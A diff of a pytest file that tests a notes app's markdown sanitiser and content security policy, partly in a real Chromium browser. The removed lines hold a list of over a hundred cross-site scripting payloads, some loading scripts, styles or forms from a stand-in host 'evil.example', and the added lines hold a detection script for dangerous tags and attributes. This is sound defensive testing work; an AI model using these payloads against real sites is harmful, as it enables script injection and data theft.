@@ -1,197 +1,35 @@
-"""Hostile text in notes: of over a hundred snippets, none survives."""
+"""Hostile text in notes: of over a hundred snippets and thousands of thrown ones, none survives."""
 
 from __future__ import annotations
 
-from html.parser import HTMLParser
+import random
+import re
+from collections.abc import Iterator
+from datetime import date
+from pathlib import Path
 
 import pytest
+from playwright.sync_api import Browser, BrowserContext, Request, Route, sync_playwright
 
-from intouch.site.markdown import Links, render_line, render_note
+from hostile_texts import HOSTILE, thrown, wrong_in
+from intouch import project
+from intouch.build import load, render
+from intouch.memo import Memo
+from intouch.pictures.attachment import Attachment
+from intouch.site.gallery import Gallery
+from intouch.site.links import Links
+from intouch.site.markdown import render_line, render_note
+from needs import needs_program
+from photographs import png
 
-LINKS = Links({"priya nair": "priya-nair", "pri": "priya-nair"}, lambda slug: f"../../people/{slug}/")
-
-ALLOWED = {
-    *(
-        "a",
-        "blockquote",
-        "br",
-        "code",
-        "del",
-        "em",
-        "h1",
-        "h2",
-        "h3",
-        "h4",
-        "h5",
-        "h6",
-        "hr",
-        "li",
-        "ol",
-        "p",
-    ),
-    *("pre", "s", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul"),
-}
-SAFE_STARTS = ("http://", "https://", "mailto:", "tel:", "../../people/")
-
-# Each line is one snippet; \n in it is a line end.
-HOSTILE = r"""
-<script>alert(1)</script>
-<SCRIPT SRC=//evil.example/x.js></SCRIPT>
-<script
-<img src=x onerror=alert(1)>
-<img src="x" onerror="alert(1)"
-<svg onload=alert(1)>
-<svg><script>alert(1)</script></svg>
-<math><mi//xlink:href="data:x,<script>alert(1)</script>">
-<iframe src=javascript:alert(1)></iframe>
-<iframe srcdoc="<script>alert(1)</script>">
-<object data=javascript:alert(1)>
-<embed src=javascript:alert(1)>
-<base href=//evil.example/>
-<link rel=stylesheet href=//evil.example/x.css>
-<meta http-equiv=refresh content="0;url=//evil.example">
-<style>*{background:url(//evil.example)}</style>
-<p style="background:url(//evil.example)">x</p>
-<div class=panel id=main>x</div>
-<form action=//evil.example><input name=q><button>go</button></form>
-<details open ontoggle=alert(1)>x</details>
-<video><source onerror=alert(1)></video>
-<a href="javascript:alert(1)">x</a>
-<a href=" javascript:alert(1)">x</a>
-<!-- <img src=x onerror=alert(1)> -->
-<!--><script>alert(1)</script>
-<?php echo 1 ?>
-<![CDATA[<script>alert(1)</script>]]>
-<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
-<noscript><p title="</noscript><img src=x onerror=alert(1)>">
-<template><script>alert(1)</script></template>
-<textarea></textarea><script>alert(1)</script>
-[x](javascript:alert(1))
-[x](JaVaScRiPt:alert(1))
-[x]( javascript:alert(1))
-[x](<javascript:alert(1)>)
-[x](java\nscript:alert(1))
-[x](java&#10;script:alert(1))
-[x](java&Tab;script:alert(1))
-[x](&#106;avascript:alert(1))
-[x](&#x6A;&#x61;vascript:alert(1))
-[x](javascript&colon;alert(1))
-[x](javascript&#58;alert(1))
-[x](&#1;javascript:alert(1))
-[x](\x01javascript:alert(1))
-[x](javascript\:alert(1))
-[x](%6aavascript:alert(1))
-[x](vbscript:msgbox(1))
-[x](livescript:alert(1))
-[x](data:text/html,<script>alert(1)</script>)
-[x](data:text/html;base64,PHNjcmlwdD4=)
-[x](data:image/svg+xml;base64,PHN2Zz4=)
-[x](file:///etc/passwd)
-[x](blob:https://evil.example/1)
-[x](filesystem:http://evil.example/)
-[x](ftp://evil.example/)
-[x](ws://evil.example/)
-[x](about:blank)
-[x](view-source:https://evil.example)
-[x](intent://evil.example#Intent;end)
-[x](//evil.example/x)
-[x](\\\\evil.example\\x)
-[x](/\\evil.example)
-[x](https:javascript:alert(1))
-[x](https://a.example/" onmouseover="alert(1))
-[x](https://a.example "t" onclick=alert(1))
-[x](https://a.example "\" onmouseover=\"alert(1)")
-[x](https://a.example/<script>)
-[x]: javascript:alert(1)\n\n[x]
-[x]: <javascript:alert(1)> "t"\n\n[x][] ![x]
-[x][y]\n\n[y]: data:text/html,<script>alert(1)</script>
-<javascript:alert(1)>
-<data:text/html,x>
-<JAVASCRIPT:alert(1)>
-<vbscript:x>
-<a@b.example" onclick="alert(1)>
-<https://a.example/"onmouseover="alert(1)>
-![x](javascript:alert(1))
-![x](data:image/svg+xml,<svg onload=alert(1)>)
-![x](data:image/png;base64,AAAA)
-![x](https://evil.example/pixel.png)
-![x](//evil.example/pixel.png)
-![" onerror="alert(1)](x.png)
-![x](x.png "\" onerror=\"alert(1)")
-![x](x" onerror="alert(1))
-![<script>alert(1)</script>](https://evil.example/x.png)
-[![x](https://evil.example/pixel.png)](javascript:alert(1))
-![![x](javascript:alert(1))](https://evil.example/y.png)
-`<script>alert(1)</script>`
-```html\n<script>alert(1)</script>\n```
-```"><script>alert(1)</script>\nx\n```
-```x" onmouseover="alert(1)\nx\n```
-~~~ <img src=x onerror=alert(1)>\nx\n~~~
-    <script>alert(1)</script>
-| <script>alert(1)</script> | b |\n| --- | :-: |\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |
-# <img src=x onerror=alert(1)>
-> <script>\n> alert(1)</script>
-- <script>alert(1)\n- </script>
-**<script>**alert(1)**</script>**
-&lt;script&gt;alert(1)&lt;/script&gt;
-&#60;script&#62;alert(1)&#60;/script&#62;
-&NewLine;<script>alert(1)</script>
-\<script>alert(1)\</script>
-[[<img src=x onerror=alert(1)>]]
-[[Priya Nair|<script>alert(1)</script>]]
-[[Priya Nair|" onclick="alert(1)]]
-[[javascript:alert(1)]]
-[[Priya Nair]](javascript:alert(1))
-{{ 7 * 7 }}{% include "base.html" %}
-<plaintext>
-<xmp><script>alert(1)</script></xmp>
-</div></main></body></html><script>alert(1)</script>
-<svg><style><img src=x onerror=alert(1)></style></svg>
-<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
-<a href="https://a.example" target=_blank onclick=alert(1)>x</a>
-<img src=x:alert(alt) onerror=eval(src) alt=0>
-""".strip("\n").splitlines()
-
-
-class Wall(HTMLParser):
-    """Notes down every element and attribute that a browser would see and that should not be."""
-
-    def __init__(self) -> None:
-        super().__init__()
-        self.wrong: list[str] = []
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        if tag not in ALLOWED:
-            self.wrong.append(f"<{tag}>")
-        for name, value in attrs:
-            allowed = (
-                (tag == "a" and name == "href" and (value or "").startswith(SAFE_STARTS))
-                or (tag == "a" and (name, value) == ("rel", "noopener noreferrer nofollow"))
-                or (tag == "a" and name == "title")
-                or (tag == "ol" and name == "start")
-                or (tag == "span" and (name, value) == ("class", "attachment"))
-            )
-            if not allowed:
-                self.wrong.append(f"<{tag} {name}={value!r}>")
-
-    def handle_comment(self, data: str) -> None:
-        self.wrong.append(f"<!--{data}-->")
-
-    def handle_decl(self, decl: str) -> None:
-        self.wrong.append(f"<!{decl}>")
-
-    def handle_pi(self, data: str) -> None:
-        self.wrong.append(f"<?{data}>")
-
-    def unknown_decl(self, data: str) -> None:
-        self.wrong.append(f"<![{data}]>")
-
-
-def wrong_in(html: str) -> list[str]:
-    wall = Wall()
-    wall.feed(html)
-    wall.close()
-    return wall.wrong
+GALLERY = Gallery([Attachment("contacts/ann/a.png", b"key")], lambda _: png(), Memo())
+LINKS = Links(
+    {"priya nair": "priya-nair", "pri": "priya-nair"},
+    lambda slug: f"../../people/{slug}/",
+    lambda path: f"../../{path}",
+    GALLERY,
+    "contacts/ann",
+)
 
 
 def note(text: str, above: int = 3) -> str:
@@ -203,16 +41,144 @@ def line(text: str) -> str:
 
 
 def test_there_are_over_a_hundred_hostile_snippets() -> None:
-    assert len(set(HOSTILE)) > 109
+    assert len(set(HOSTILE)) >= 140
 
 
-@pytest.mark.parametrize("snippet", HOSTILE)
-def test_no_hostile_snippet_survives(snippet: str) -> None:
-    text = snippet.replace("\\n", "\n").replace("\\x01", "\x01")
+@pytest.mark.parametrize("text", HOSTILE)
+def test_no_hostile_snippet_survives(text: str) -> None:
     assert wrong_in(note(text)) == []
     assert wrong_in(line(text)) == []
     assert wrong_in(note(f"# A heading\n\nbefore {text} after\n\n- {text}\n")) == []
 
 
+def test_no_thrown_text_survives() -> None:
+    """A few thousand of them; `benchmarks/fuzz.py` throws a hundred thousand."""
+    dice = random.Random(2026)
+    for _ in range(4_000):
+        text = thrown(dice)
+        assert wrong_in(note(text) + line(text)) == [], text
+
+
 def test_the_wall_sees_what_it_should() -> None:
-    assert wrong_in("<script>x</script><a href='javascript:x' onclick=y>z</a><img src=x><!-- c -->")
+    assert len(wrong_in("<script>x</script><a href='javascript:x' onclick=y>z</a><img src=x><!-- c -->")) == 5
+
+
+def test_a_picture_of_ones_own_gets_through_the_wall() -> None:
+    assert "<img" in note("![x](a.png)")
+    assert wrong_in(note("![x](a.png)")) == []
+
+
+# -- in a real browser --------------------------------------------------------------------------------
+
+ALARM = """
+globalThis.fired = [];
+for (const name of ["alert", "confirm", "prompt", "print"]) {
+  globalThis[name] = (...said) => fired.push([name, ...said]);
+}
+"""
+STRANGE = """
+() => {
+  const found = [];
+  for (const element of document.querySelectorAll(":is(.prose, .said) *")) {
+    if (element.namespaceURI !== "http://www.w3.org/1999/xhtml") found.push(element.outerHTML);
+    if (/^(script|style|iframe|object|embed|base|link|meta|form|input|button|svg|math|video|audio|template)$/
+      .test(element.localName)) found.push(element.outerHTML);
+    for (const { name } of element.attributes) if (/^(on|style|id|srcdoc|srcset|background)/.test(name))
+      found.push(element.outerHTML);
+    if (element.localName === "a" && element.hasAttribute("href")
+      && !["http:", "https:", "mailto:", "tel:"].includes(element.protocol)) found.push(element.outerHTML);
+  }
+  return found;
+}
+"""
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    chromium = needs_program("chromium")
+    with sync_playwright() as playwright:
+        opened = playwright.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
+        yield opened
+        opened.close()
+
+
+def hosted(context: BrowserContext, files: dict[str, bytes]) -> list[str]:
+    """Answer for a site from memory; whatever else is asked for is noted and goes nowhere."""
+    types = {"html": "text/html", "css": "text/css", "js": "text/javascript", "svg": "image/svg+xml"}
+    asked: list[str] = []
+    site = "http://notebook.example/"
+
+    def answer(route: Route, request: Request) -> None:
+        path = request.url.removeprefix(site)
+        path += "index.html" if path.endswith("/") else ""
+        if request.url.startswith(site) and path in files:
+            kind = types.get(path.rpartition(".")[2], "application/octet-stream")
+            route.fulfill(body=files[path], content_type=kind)
+        else:
+            asked.append(request.url)
+            route.abort()
+
+    context.route("**/*", answer)
+    context.add_init_script(ALARM)
+    return asked
+
+
+TOGETHER = 12
+"""Snippets that share a page; each stands in a note of its own, so none can spoil another."""
+
+
+@pytest.mark.browser
+def test_in_a_browser_without_the_policy_nothing_runs_and_nothing_is_asked_for(
+    browser: Browser, tmp_path: Path
+) -> None:
+    """The cleaning alone must hold: the second wall, the content security policy, is taken away."""
+    slugs = [f"p{first}" for first in range(0, len(HOSTILE), TOGETHER)]
+    for slug in slugs:
+        (tmp_path / "contacts" / slug).mkdir(parents=True)
+        texts = [text.replace("\x01", "") for text in HOSTILE[int(slug[1:]) :][:TOGETHER]]
+        log = "".join("- 2026-11-02 call: x " + re.sub(r"\s+", " ", text) + "\n" for text in texts)
+        (tmp_path / "contacts" / f"{slug}.md").write_text(f"---\nname: P\n---\n## Log\n{log}", "utf-8")
+        for number, text in enumerate(texts):
+            note = tmp_path / "contacts" / slug / f"2026-11-03-note-{number}.md"
+            note.write_text(f"x {text}\n\n- {text}\n", "utf-8")
+    made = render(load(tmp_path, project.read_settings(tmp_path), date(2026, 11, 23)))
+    assert not made.has_errors
+    with browser.new_context(bypass_csp=True) as context:
+        asked = hosted(context, dict(made.site))
+        page = context.new_page()
+        shown = 0
+        for slug in slugs:
+            page.goto(f"http://notebook.example/people/{slug}/")
+            shown += page.locator(".prose, .said").count()
+            assert page.evaluate("fired") == []
+            assert page.evaluate(STRANGE) == []
+            assert (asked, page.url) == ([], f"http://notebook.example/people/{slug}/")
+    assert shown == 2 * len(HOSTILE), "each is shown in the log and in a note"
+
+
+NAVIGATING = re.compile(r"http-equiv=refresh|^```|^~~~|^    ")
+"""Snippets that mean something else as HTML: a policy forbids no page to go elsewhere."""
+
+
+@pytest.mark.browser
+def test_in_a_browser_the_policy_alone_holds_too(browser: Browser, tmp_path: Path) -> None:
+    """The snippets stand in a page as they are, as if nothing had cleaned them."""
+    (tmp_path / "contacts").mkdir()
+    (tmp_path / "contacts" / "ann.md").write_text("---\nname: Ann\n---\nHERE\n", "utf-8")
+    site = dict(render(load(tmp_path, project.read_settings(tmp_path), date(2026, 11, 23))).site)
+    page_of_ann = site["people/ann/index.html"]
+    raw = [s.encode() for s in HOSTILE if "<" in s and not NAVIGATING.search(s)]
+    for number, text in enumerate(raw):
+        site[f"people/raw{number}/index.html"] = page_of_ann.replace(b"HERE", text)
+    assert len(raw) > 50
+    ran = []
+    for bypass in (False, True):
+        with browser.new_context(bypass_csp=bypass) as context:
+            asked = hosted(context, site)
+            page = context.new_page()
+            for number in range(0, len(raw), 3 if bypass else 1):
+                page.goto(f"http://notebook.example/people/raw{number}/")
+                ran += [(bypass, f) for f in page.evaluate("fired")]
+            ran += [(bypass, [url]) for url in asked if "evil.example" in url]
+    assert [one for one in ran if not one[0]] == []
+    assert len(ran) > 7, "without the policy they do run, and do ask"
